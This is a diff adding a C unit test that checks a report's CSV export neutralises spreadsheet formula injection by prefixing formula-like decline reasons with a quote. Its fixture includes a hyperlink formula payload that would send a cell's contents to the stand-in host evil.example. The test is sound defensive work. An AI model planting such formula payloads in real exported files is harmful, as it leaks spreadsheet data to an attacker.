@@ -73,3 +73,40 @@ Test(report_text, csv_quotes_what_people_wrote_and_leaves_withheld_cells_empty)
 	cr_expect_str_eq(cells[3], "<5", "a withheld count says so");
 	cr_expect_str_eq(cells[4], "-", "an unknown one is a dash");
 }
+
+Test(report_text, csv_keeps_a_reason_that_looks_like_a_formula_as_text)
+{
+	Refex__ReportReason a = REFEX__REPORT_REASON__INIT, b = REFEX__REPORT_REASON__INIT;
+	Refex__ReportReason *reasons[] = {&a, &b};
+	Refex__ReportRow row = REFEX__REPORT_ROW__INIT, *rows[] = {&row};
+	Refex__Report r = REFEX__REPORT__INIT;
+	char *csv, *line;
+
+	/* Another agency wrote these reasons: a spreadsheet must not run them. */
+	a.reason = "=hyperlink(\"http://evil.example/\"&a1)";
+	a.has_count = 1;
+	a.count = 2;
+	b.reason = "@sum(1)";
+	b.has_count = 1;
+	b.count = 1;
+	row.has_direction = 1;
+	row.direction = REFEX__REPORT_DIRECTION__REPORT_DIRECTION_SENT;
+	row.sender = "agency-a";
+	row.recipient = "agency-b";
+	row.n_decline_reasons = 2;
+	row.decline_reasons = reasons;
+	r.n_rows = 1;
+	r.rows = rows;
+	csv = csv_of(&r);
+	cr_assert_not_null(line = strstr(csv, "\r\n"));
+	cr_expect(
+	    strstr(line, ",\"'=hyperlink(\"\"http://evil.example/\"\"&a1): 2; @sum(1): 1\",") !=
+	        NULL,
+	    "a formula-like reason gets a leading quote: %s", line + 2);
+	free(csv);
+	a.reason = "+1 no capacity";
+	b.reason = "-";
+	csv = csv_of(&r);
+	cr_expect(strstr(csv, ",'+1 no capacity: 2; -: 1,") != NULL, "unquoted too: %s", csv);
+	free(csv);
+}
